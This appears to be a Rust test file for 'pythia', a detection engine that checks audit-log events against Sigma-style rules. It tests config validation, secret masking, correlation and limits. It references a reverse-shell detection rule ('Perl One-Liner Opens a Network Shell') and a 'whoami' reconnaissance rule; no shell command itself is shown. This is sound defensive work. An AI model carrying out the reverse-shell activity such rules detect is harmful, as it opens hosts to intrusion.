          help: write an IP address and a port, such as "127.0.0.1:9464", or "" for off
        pythia.toml: kafka.delivery: "exactly_once" is not built yet
          help: write "at_least_once"
        pythia.toml: kafka.gruop: there is no such setting
          help: did you mean kafka.group?
        pythia.toml: kafka.librdkafka.enable.auto.commit: the engine decides this
          help: remove it; [kafka] has a setting for what may be chosen
        pythia.toml: kafka.security.password: is not what it should be
          help: put it in quotes
        pythia.toml: kafka.security.passwrd: there is no such setting
          help: did you mean kafka.security.password?
        pythia.toml: kafka.start: "erliest" is none of the words known here
          help: did you mean "earliest"? It may be earliest, latest
        pythia.toml: limits.why_bytes: 1B is out of range
          help: write a size from "256B" to "256KiB"
        pythia.toml: log.level: "a==b" is no level: error parsing level filter: expected one of "off", "error", "warn", "info", "debug", "trace", or a number 0-5
          help: write info, or directives such as "info,librdkafka=debug"
        pythia.toml: source.host_pointer: is no JSON pointer
          help: begin with a slash: /host/name
        pythia.toml: source.users.abc: is no user id
          help: write a number, such as 0 = "root"
        PYTHIA__KAFKA: kafka: is a section, no setting
          help: write [kafka] and the settings below it
        PYTHIA__LOG__FORMAT: log.format: "xml" is none of the words known here
          help: it may be human, json
        PYTHIA__NO__SUCH: no.such: there is no such setting
          help: `pythia config example` lists every setting
        --group: kafka.group: must not be empty
          help: write a name
    "#]].assert_eq(&ran.err.replace(&place, ""));
}

#[test]
fn a_secret_is_never_printed() {
    let folder = Folder::new();
    for text in [
        "[kafka.security]\npassword = hunter2\n",
        "[kafka.security]\npassword = \"hunter2\n",
        "[kafka.security]\npassword = \"hunter2\"\npassword = \"hunter2\"\n",
        "[kafka.security]\nkey_password = 'hunter2'\npasswort = 'hunter2'\n",
        "[kafka]\nbrokers = [\"127.0.0.1:1\"]\n[kafka.librdkafka]\n\"sasl.pasword\" = \"hunter2\"\n",
        "[kafka]\nbrokers = [\"127.0.0.1:1\"]\n[kafka.security]\nprotocol = \"ssl\"\nkey = \"-----BEGIN hunter2\"\ncertificate = \"-----BEGIN x\"\n",
    ] {
        let file = folder.write("pythia.toml", text);
        for arguments in [&["config", "show"][..], &["run", "-v"]] {
            let unknown = text.contains("sasl.pasword") && arguments[0] == "config";
            let ran = run(&[arguments, &["--config", &file]].concat());
            assert!(
                unknown || !(ran.out + &ran.err).contains("hunter2"),
                "{text} {arguments:?}"
            );
        }
    }
}

#[test]
fn kafka_properties_that_nobody_knows_are_a_configuration_mistake() {
    let ran = ran(pythia(&["run", "--brokers", "127.0.0.1:1"])
        .env("PYTHIA__HTTP__LISTEN", "")
        .env("PYTHIA__KAFKA__CONSUMER__NO_SUCH_PROPERTY", "hunter2"));
    assert_eq!((ran.code, ran.out.as_str()), (Some(2), ""), "{}", ran.err);
    assert!(ran.err.contains("\"no.such.property\""), "{}", ran.err);
    assert!(!ran.err.contains("hunter2"), "{}", ran.err);
}

#[test]
fn a_rule_is_explained_on_an_event_whether_it_matches_or_not() {
    let folder = Folder::new();
    let other =
        r#"{"ID":"1626611364.720:348502","EXECVE":{"argc":3,"ARGV":["perl","-e","print 1"]}}"#;
    let events = folder.write("events.jsonl", format!("{SEED}\n{other}\n"));
    let rule = "rules/linux/reverse_shell/perl.yml";
    let explain = |event: &str, output: &str| run(&["explain", rule, event, "--output", output]);
    let found = explain(&format!("{events}:1"), "table");
    for part in [
        "Perl One-Liner Opens a Network Shell",
        "rules/linux/reverse_shell/perl.yml:1",
        "runs on process_creation, found by a literal",
        "  process_creation: matches",
    ] {
        assert!(found.out.contains(part), "{part}: {}", found.out);
    }
    let missed = explain(&format!("{events}:2"), "table");
    assert_eq!(missed.code, Some(0));
    for part in ["does not match, 2 items away", "saw 'perl -e print 1'"] {
        assert!(missed.out.contains(part), "{part}: {}", missed.out);
    }
    let json: Value =
        serde_json::from_str(&explain(&format!("{events}:2"), "json").out).expect("JSON");
    assert_eq!(json[0]["matches"], false);
    assert_eq!(json[0]["views"][0]["view"], "process_creation");
    // Nothing there to explain, and nothing to explain it by.
    let missing = folder.path("missing.jsonl");
    for (event, told) in [
        (missing, "No such file"),
        (format!("{events}:9"), "has no line 9, only 2"),
    ] {
        let ran = run(&["explain", rule, &event]);
        assert_eq!(ran.code, Some(2), "{}", ran.err);
        assert!(ran.err.contains(told), "{}", ran.err);
    }
}

#[test]
fn a_correlation_shows_its_events_and_the_summary_what_came_too_late() {
    let folder = Folder::new();
    let rules = folder.write(
        "rules.yml",
        "title: Somebody asks who they are\nname: asks\nlogsource: {category: process_creation}\n\
         detection: {selection: {CommandLine: whoami}, condition: selection}\n---\n\
         title: Asked three times in a minute\nid: three\ncorrelation:\n  type: event_count\n  rules: asks\n  \
         group-by: host\n  timespan: 1m\n  condition: {gte: 3}\n",
    );
    let event = |seconds: u32| {
        let time = 1_700_000_000 + seconds;
        format!(
            "{{\"ID\":\"{time}.000:{seconds}\",\"NODE\":\"web-01\",\"EXECVE\":{{\"ARGV\":[\"whoami\"]}}}}\n"
        )
    };
    let events = folder.write("events.jsonl", [100, 60, 115].map(event).concat());
    let scan = |lateness: &str, files: &[&str]| {
        let rest = ["scan", "--output", "table", "--rules", &rules];
        ran(pythia(&[&rest, files].concat()).env("PYTHIA__CORRELATION__LATENESS", lateness))
    };
    let found = scan("120s", &[&events]);
    for part in [
        "Asked three times in a minute on web-01",
        "  events   3 of host web-01, ",
        ": whoami\n",
    ] {
        assert!(found.out.contains(part), "{}", found.out);
    }
    assert!(found.err.contains("1 alert from 1 rule"), "{}", found.err);
    let late = scan("5s", &[&events]);
    assert_eq!(late.out, "");
    let told = "correlation Asked three times in a minute: 1 matches came too late (`correlation.lateness`)";
    assert!(late.err.contains(told), "{}", late.err);
    // Several files may tell of the same time one after the other: nothing in them is late.
    let first = folder.write("first.jsonl", event(100));
    let second = folder.write("second.jsonl", [60, 115].map(event).concat());
    assert!(
        scan("5s", &[&first, &second])
            .err
            .contains("1 alert from 1 rule")
    );
}

#[test]
fn a_flag_beats_a_variable_beats_the_file_beats_the_default() {
    let folder = Folder::new();
    let file = folder.write(
        "pythia.toml",
        "[limits]\nnesting = 10\narguments = 10\n[rules]\npaths = [\"/nowhere\"]\n",
    );
    let ran = ran(pythia(&["config", "show", "--output", "jsonl"])
        .env("PYTHIA_CONFIG", &file)
        .env("PYTHIA__LIMITS__NESTING", "20"));
    let shown = alerts(&ran.out);
    let of = |key: &str| {
        let setting = shown.iter().find(|s| s["key"] == key).expect("shown");
        (
            setting["value"].clone(),
            setting["origin"].as_str().expect("text"),
        )
    };
    assert_eq!(of("limits.nesting"), (20.into(), "PYTHIA__LIMITS__NESTING"));
    assert_eq!(of("limits.arguments"), (10.into(), &*file));
    assert_eq!(of("limits.records"), (4096.into(), "default"));
    // The file's rules are not there; a flag makes up for it.
    assert_eq!(run(&["check", "--config", &file]).code, Some(2));
    assert_eq!(
        run(&[
            "check",
            "--config",
            &file,
            "--rules",
            concat!(env!("CARGO_MANIFEST_DIR"), "/rules")
        ])
        .code,
        Some(0)
    );
}

#[test]
fn limits_of_the_configuration_hold_in_scan() {
    let ran = |name: &str, value: &str| {
        let mut child = pythia(&["scan", "--output", "jsonl", "-"])
            .env(name, value)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("pythia runs");
        child
            .stdin
            .take()
            .expect("a pipe")
            .write_all(SEED.as_bytes())
            .expect("pythia reads");
        let output = child.wait_with_output().expect("pythia ends");
        let (out, err) = (
            String::from_utf8(output.stdout),
            String::from_utf8(output.stderr),
        );
        (alerts(&out.expect("UTF-8")), err.expect("UTF-8"))
    };
    let (alerts, err) = ran("PYTHIA__LIMITS__ALERTS_PER_EVENT", "1");
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0]["alerts_left_out"], 1);
    assert!(
        err.contains("1 alert left out by the limit per event"),
        "{err}"
    );
    let (alerts, _) = ran("PYTHIA__LIMITS__WHY_BYTES", "256B");
    assert!(
        alerts
            .iter()
            .all(|alert| alert["why_truncated"] == true && alert["why"].to_string().len() < 700)
    );
    let (alerts, _) = ran("PYTHIA__LIMITS__EVENT_BYTES", "1KiB");
    assert!(alerts.iter().all(|alert| alert["event"] == SEED));
    let (alerts, err) = ran("PYTHIA__LIMITS__NESTING", "4");
    assert_eq!((alerts.len(), sums(&err)), (2, [1, 1, 0, 0]));
    let (alerts, err) = ran("PYTHIA__LIMITS__ARGUMENTS", "2");
    assert!(err.contains("1 event seen only in part by rules"), "{err}");
    assert!(
        alerts
            .iter()
            .all(|alert| alert["flags"]["limit_reached"] == true)
    );
    let (alerts, err) = ran("PYTHIA__LIMITS__LINE_BYTES", "1KiB");
    assert_eq!((alerts.len(), sums(&err)), (2, [1, 1, 0, 0]));
}

/// A parent in one file and its child in the next, as rotated logs have them.
#[test]
fn a_known_host_keeps_its_processes_from_file_to_file() {
    let parent = r#"{"ID":"1700000000.001:1","NODE":"h","SYSCALL":{"success":"yes","pid":7,"exe":"/usr/bin/bash","PID":{"EVENT_ID":"1700000000.001:1"}},"EXECVE":{"argc":2,"ARGV":["bash","/opt/install.sh"]}}"#;
    let child = r#"{"ID":"1700000000.002:2","NODE":"h","SYSCALL":{"success":"yes","pid":8,"exe":"/usr/bin/id","PID":{"EVENT_ID":"1700000000.002:2"},"PPID":{"EVENT_ID":"1700000000.001:1"}},"EXECVE":{"argc":1,"ARGV":["id"]}}"#;
    let rule = "title: Child\nid: 5c4ad8a3-51f1-46b8-9b7c-0a1b2c3d4e5f\nlogsource: {product: linux, category: process_creation}\ndetection: {s: {ParentCommandLine|contains: install.sh}, condition: s}\n";
    let folder = Folder::new();
    let rules = folder.write("rule.yml", rule);
    let (first, second) = (folder.write("a.log", parent), folder.write("b.log", child));
    let found = |files: &[&str]| {
        let ran = run(&[&["scan", "--output", "jsonl", "--rules", &rules], files].concat());
        alerts(&ran.out).len()
    };
    assert_eq!(found(&[&first, &second]), 1);
    // Files without any host are hosts of their own.
    let without = |text: &str| text.replace(r#""NODE":"h","#, "");
    let (first, second) = (
        folder.write("c.log", without(parent)),
        folder.write("d.log", without(child)),
    );
    assert_eq!(found(&[&first, &second]), 0);
}

/// The first bytes of a packed stream may come one by one.
#[test]
fn a_slow_pipe_is_unpacked_too() {
    let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    packed
        .write_all(br#"{"ID":"1700000000.001:1","CWD":{"cwd":"/"}}"#)
        .expect("memory takes bytes");
    let packed = packed.finish().expect("memory takes bytes");
    let mut child = pythia(&["scan", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .expect("pythia starts");
    let mut stdin = child.stdin.take().expect("a pipe");
    for byte in &packed {
        stdin.write_all(&[*byte]).expect("the pipe takes a byte");
        stdin.flush().expect("the pipe takes a byte");
        std::thread::sleep(Duration::from_micros(200));
    }
    drop(stdin);
    let output = child.wait_with_output().expect("it ends");
    let err = String::from_utf8_lossy(&output.stderr).into_owned();
    assert_eq!(sums(&err), [1, 1, 0, 0], "{err}");
}

#[test]
fn commands_for_operators_want_brokers_and_times_that_mean_something() {
    for arguments in [
        &["doctor"][..],
        &["topics", "create"],
        &["dlq", "list"],
        &["dlq", "replay"],
    ] {
        let Ran { code, out, err } = run(arguments);
        assert_eq!((code, out.as_str()), (Some(2), ""), "{arguments:?}: {err}");
        assert!(err.contains("kafka.brokers: is missing"), "{err}");
    }
    for arguments in [
        &["doctor", "--timeout", "0s"][..],
        &["dlq", "list", "--limit", "0"],
        &["dlq", "replay", "--rate", "0"],
        &["topics", "create", "--retention", "7"],
        &["dlq", "list", "--brokers", "127.0.0.1:1", "--since", "soon"],
    ] {
        assert_eq!(run(arguments).code, Some(2), "{arguments:?}");
    }
    for command in ["list", "replay"] {
        let times = ["--since", "1h", "--until", "2h"];
        let arguments = [&["dlq", command, "--brokers", "127.0.0.1:1"][..], &times].concat();
        let Ran { code, err, .. } = run(&arguments);
        assert_eq!(code, Some(2), "{err}");
        assert!(err.contains("--until is not later than --since"), "{err}");
    }
    let create = ["topics", "create", "--brokers", "127.0.0.1:1"];
    let factors = ["--replication-factor", "1", "--min-insync-replicas", "2"];
    let Ran { code, err, .. } = run(&[&create[..], &factors].concat());
    assert_eq!(
        (code, err.as_str()),
        (
            Some(2),
            "error: --min-insync-replicas 2: with 1 replica nothing could ever be written\n"
        )
    );
}

#[test]
fn a_mistyped_option_suggests_what_the_help_shows() {
    let Ran { code, err, .. } = run(&["scan", "--witout", "memo", "-"]);
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("'--witout'") && !err.contains("tip"), "{err}");
    let Ran { err, .. } = run(&["scan", "--quite", "-"]);
    assert!(err.contains("tip") && err.contains("'--quiet'"), "{err}");
}

/// The client would take such a port modulo 65,536, and refuse such a pattern only when it subscribes.
#[test]
fn brokers_and_patterns_that_mean_nothing_are_mistakes_for_every_command() {
    for arguments in [
        &["run"][..],
        &["doctor"],
        &["topics", "create"],
        &["dlq", "list"],
        &["dlq", "replay"],
        &["config", "show"],
    ] {
        let ran = ran(pythia(arguments)
            .env("PYTHIA__KAFKA__BROKERS", "127.0.0.1:74528")
            .env("PYTHIA__KAFKA__INPUT", "^["));
        assert_eq!((ran.code, ran.out.as_str()), (Some(2), ""), "{arguments:?}");
        expect![[r#"
            error: 2 mistakes in the configuration
            PYTHIA__KAFKA__BROKERS: kafka.brokers: "127.0.0.1:74528" has no port from 1 to 65535
              help: write host:port, such as "kafka:9092"
            PYTHIA__KAFKA__INPUT: kafka.input: "^[" is no regular expression: unclosed character class
              help: mend it, or name the topics
        "#]]
        .assert_eq(&ran.err);
    }
}
